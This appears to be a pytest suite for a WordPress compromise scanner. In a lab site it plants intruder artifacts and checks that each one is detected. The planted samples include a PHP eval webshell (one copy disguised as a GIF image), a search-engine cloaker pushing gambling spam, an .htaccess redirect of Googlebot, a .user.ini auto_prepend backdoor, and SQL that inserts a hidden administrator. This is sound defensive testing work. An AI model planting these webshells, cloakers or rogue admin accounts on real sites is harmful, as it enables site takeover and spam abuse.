"""What intruders do to a real WordPress is found, each thing for itself; a clean one has none of it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from playbooks.findings import Finding, TargetResult
from playbooks.hosting import check, files
from playbooks.hosting.connect import Shell, open_host
from playbooks.hosting.site import Site
from tests.lab.core import run
from tests.lab.web import WebLab
from tests.playbooks.hosting.steps import deployed, hosted, install_wordpress, wordpress

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

OURS = ("files.", "cms.", "exposed.", "content.", "php.", "os.")
UPLOADS = "shared/wp-content/uploads"
SHELL = "<?php if (isset($_POST['c'])) { @eval($_POST['c']); }"
CLOAKER = (
    "<?php if (preg_match('/google|bing/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {"
    " die('<title>Slot Gacor Maxwin</title><h1>Daftar slot gacor maxwin deposit pulsa, bandar togel</h1>'); } ?>\n"
)
PAGE = "<title>Slot Gacor Hari Ini</title><h1>Daftar situs slot gacor maxwin, deposit pulsa, bandar togel online</h1>"
HTACCESS = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule .* http://judi.invalid/ [R]\n"
ADMIN = """
insert into bersih_web.wp_users (ID, user_login, user_registered) values (77, 'sistem_wp', '2026-01-02');
insert into bersih_web.wp_usermeta (user_id, meta_key, meta_value)
values (77, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}')
"""
NO_ADMIN = "delete from bersih_web.wp_users where ID = 77; delete from bersih_web.wp_usermeta where user_id = 77"


@dataclass
class Ground:
    """A clean WordPress, and what a test does to it."""

    site: Site
    shell: Shell
    lab: WebLab

    @property
    def base(self) -> Path:
        return Path(self.site.layout.base)

    def look(self) -> TargetResult:
        result = check.check(self.site, self.shell)
        assert result.detail == "", result.detail
        return result

    def findings(self) -> list[Finding]:
        return [each for each in self.look().findings if each.code.startswith(OURS)]

    def found(self) -> set[tuple[str, str]]:
        return {(each.code, each.subject) for each in self.findings()}


@pytest.fixture(scope="module")
def ground(web_lab: WebLab) -> Iterator[Ground]:
    site = wordpress(web_lab, "bersih", admins=["admin"])
    with open_host(site.access) as shell:
        hosted(site, shell)
        assert deployed(site, shell).ok
        install_wordpress(site, web_lab, "Dinas Bersih")
        yield Ground(site, shell, web_lab)


@pytest.fixture
def plant(ground: Ground) -> Iterator[Callable[[str, str], str]]:
    """Writes a file as root, below the site's folder, and puts things back; returns its real path from there."""
    before: dict[Path, bytes | None] = {}

    def write(name: str, text: str) -> str:
        path = (ground.base / name).resolve()
        before.setdefault(path, path.read_bytes() if path.exists() else None)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        run("chmod", "-R", "a+rX", str(path.parent))
        return str(path.relative_to(ground.base))

    yield write
    for path, data in before.items():
        path.unlink() if data is None else path.write_bytes(data)


def test_a_clean_wordpress_has_none_of_these_findings(ground: Ground) -> None:
    result = ground.look()
    assert {"files", "cms", "php", "os", "exposed", "content"} <= {*result.checked}
    assert [each for each in result.findings if each.code.startswith(OURS)] == []
    assert result.copies == {}


def test_a_webshell_is_found_and_copied(ground: Ground, plant: Callable[[str, str], str]) -> None:
    path = plant(f"{UPLOADS}/2026/01/gambar.php", SHELL)
    disguised = plant(f"{UPLOADS}/foto \n baru.jpg", f"GIF89a{SHELL}")
    assert {("files.webshell", path), ("files.unknown", path)} <= ground.found()
    assert ("files.webshell", disguised.replace(" \n ", " ")) in ground.found()
    assert ground.look().copies[path] == SHELL.encode()


def test_a_cloaker_in_a_core_file_is_found_on_the_page_and_in_the_file(
    ground: Ground, plant: Callable[[str, str], str]
) -> None:
    index = (ground.base / "current/index.php").read_text()
    path = plant("current/index.php", CLOAKER + index)
    found = ground.found()
    assert ("files.changed", path) in found
    assert {code for code, _ in found} & {"content.cloaked", "content.gambling"}


def test_a_core_file_that_changed_or_went_is_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
    changed, lost = plant("current/wp-login.php", "<?php // lain"), plant("current/wp-cron.php", "")
    (ground.base / lost).unlink()
    added = plant("current/wp-includes/wp-lama.php", "<?php phpinfo();")
    assert ground.found() >= {
        ("files.changed", changed),
        ("files.changed", lost),
        ("files.unknown", added),
        ("exposed.debug", added),
    }
    (ground.base / lost).write_text("")


def test_a_hidden_page_is_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
    path = plant(f"{UPLOADS}/berita/index.html", PAGE)
    assert ("content.gambling", path) in ground.found()


def test_rules_that_send_searchers_away_are_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
    path = plant(f"{UPLOADS}/.htaccess", HTACCESS)
    ini = plant(f"{UPLOADS}/.user.ini", "auto_prepend_file = gambar.jpg\n")
    assert {("files.webshell", path), ("files.webshell", ini)} <= ground.found()


def test_an_unknown_admin_is_found(ground: Ground) -> None:
    ground.lab.sql(ADMIN)
    try:
        (found,) = ground.findings()
    finally:
        ground.lab.sql(NO_ADMIN)
    assert (found.code, "sistem_wp" in found.evidence) == ("cms.unknown_admin", True)


def test_debugging_is_found_in_the_settings_and_on_the_page(ground: Ground, plant: Callable[[str, str], str]) -> None:
    config = (ground.base / "shared/wp-config.php").read_text()
    shown = "ini_set('display_errors', 1); echo $tak_ada;\n"
    text = config.replace("define('WP_DEBUG', false);", f"define('WP_DEBUG', true); {shown}")
    path = plant("shared/wp-config.php", text)
    assert {("files.changed", path), ("exposed.debug", path)} <= ground.found()


def test_secrets_are_found_where_visitors_would_get_them(ground: Ground, plant: Callable[[str, str], str]) -> None:
    env = plant("current/.env", "APP_KEY=rahasia\nDB_PASSWORD=rahasia\n")
    git = plant("current/.git/HEAD", "ref: refs/heads/main\n")
    assert {("exposed.file", env), ("exposed.file", git)} <= ground.found()
    web = Path(files.web_path(ground.site))
    kept = web.read_text()
    web.write_text(kept.replace("location ~ /\\. { return 404; }", ""))
    ground.shell.privileged(ground.site.host.commands.nginx_reload)
    try:
        url = f"http://{ground.site.domain}"
        result = ground.look()
        told = {(each.code, each.subject) for each in result.findings}
        assert {("exposed.file", f"{url}/.env"), ("exposed.file", f"{url}/.git/HEAD")} <= told
        assert "rahasia" not in f"{result.as_json()}"
    finally:
        web.write_text(kept)
        ground.shell.privileged(ground.site.host.commands.nginx_reload)
